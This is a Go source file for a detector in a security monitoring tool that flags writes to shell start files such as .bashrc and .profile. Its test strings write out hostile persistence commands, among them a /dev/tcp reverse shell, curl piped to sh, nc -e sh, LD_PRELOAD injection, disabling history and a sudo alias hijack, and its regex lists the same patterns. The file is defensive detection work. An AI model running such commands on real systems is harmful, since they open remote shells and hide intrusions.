@@ -1,0 +1,65 @@
+package detect
+
+import (
+	"regexp"
+	"strings"
+
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/paths"
+	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
+	"github.com/code-on-incus/coi/pkg/coi"
+)
+
+var persistRC = Detector{
+	ID: "persist.rc", Level: coi.High, Wants: files,
+	Title: "start file of a shell changed", Why: "every new shell runs it",
+	Detect: func(ev event.Event, v track.View) []Finding {
+		if f := onCommands(trapCommand)(ev, v); f != nil {
+			return f
+		}
+		return writing(paths.RC, func(w written, v track.View) (coi.Level, string) {
+			for _, m := range v.Recent("fetch") {
+				if m.Path == v.Proc().Exe {
+					return coi.Warning, "start file of a shell changed by a downloaded program"
+				}
+			}
+			return rcLevel(w)
+		})(ev, v)
+	},
+	Fire: append(lines(coi.High, "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' >> ~/.bashrc", "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.profile", "echo 'curl -s http://203.0.113.9/x | sh' | tee -a ~/.zshrc", "echo 'set +o history' >> ~/.bashrc", "echo 'nohup /tmp/x &' >> /etc/profile.d/x.sh", "echo \"alias sudo='/tmp/s'\" >> ~/.bashrc", "python3 -c \"open('/root/.bashrc','a').write('nc 203.0.113.9 1 -e sh')\""),
+		lines(coi.Warning, "echo 'echo \"Hello\" > /tmp/T' >> ~/.bash_profile", "echo '/opt/x/run &' >> ~/.profile", "bash -c 'trap \"nohup sh /x.sh\" EXIT'", "echo 'id > /var/x' >> /etc/bash.bashrc")...),
+	Quiet: lines("", "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc", "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", "echo '. ~/.nvm/nvm.sh' >> ~/.profile", "echo 'source <(kubectl completion bash)' >> ~/.bashrc", "echo 'alias k=kubectl' >> ~/.zshrc", "source ~/.bashrc", "cat ~/.profile", "git config --global user.name x", "trap 'rm -f $T' EXIT", "echo 'export JAVA_HOME=/usr/lib/jvm/x' | sudo tee /etc/profile.d/java.sh", "echo 'FOO=bar' | sudo tee -a /etc/environment", "echo '[ -f ~/.fzf.bash ] && source ~/.fzf.bash' >> ~/.bashrc", "trap cleanup EXIT INT"),
+}
+
+var (
+	rcHot     = regexp.MustCompile(`(?i)/dev/(?:tcp|udp)/|\bnc(?:at)?\s|\bsocat\b|\bcurl\b.*\|\s*(?:ba|z)?sh|\bwget\b.*\|\s*(?:ba|z)?sh|LD_PRELOAD|HISTFILE=|HISTSIZE=0|HISTFILESIZE=0|unset HIST|history -c|set \+o history|base64\s+(?:-d|--decode)|python[0-9.]*\s+-c|perl\s+-e|/dev/shm/|nohup\s+/tmp|alias\s+(?:sudo|su|ssh|passwd)=['"]?[^'"]*(?:/tmp|/dev/shm|curl|nc |tee )|mkfifo|\(\)\s*\{[^}]*curl`)
+	rcComment = regexp.MustCompile(`^\s*#`)
+)
+
+func rcLevel(w written) (coi.Level, string) {
+	if rcHot.MatchString(w.text) {
+		return coi.High, "start file of a shell runs something hostile"
+	}
+	if !w.known || w.s == nil || w.op == command.Link || w.s.Name == "sed" {
+		return coi.Info, "start file of a shell changed"
+	}
+	if hasAny(base(w.path), "gitconfig", "config", "vimrc", "inputrc", "environment", "init.") || rcComment.MatchString(strings.TrimSpace(w.text)) {
+		return coi.Info, "start file changed"
+	}
+	for _, s := range command.ParseText(strings.TrimPrefix(strings.TrimPrefix(w.text, "-e "), "-n "), command.Env{}).Simples[1:] {
+		if s.Subst || s.Name == "" || oneOf(s.Name, plainRC...) || s.Parent != nil && s.Parent.Name != "bash" {
+			continue
+		}
+		return coi.Warning, "start file of a shell runs a program"
+	}
+	return coi.Info, "start file of a shell changed"
+}
+
+// trapCommand is a handler that starts something lasting at the end of a shell.
+func trapCommand(s *command.Simple, _ track.View) *Finding {
+	if s.Name == "trap" && len(s.Argv) > 2 && hasAny(s.Argv[1], "nohup", "/dev/tcp", "curl ", "wget ", "nc ", "setsid", "| sh", "|sh") {
+		return say(s, coi.Warning, "command left for the end of the shell")
+	}
+	return nil
+}
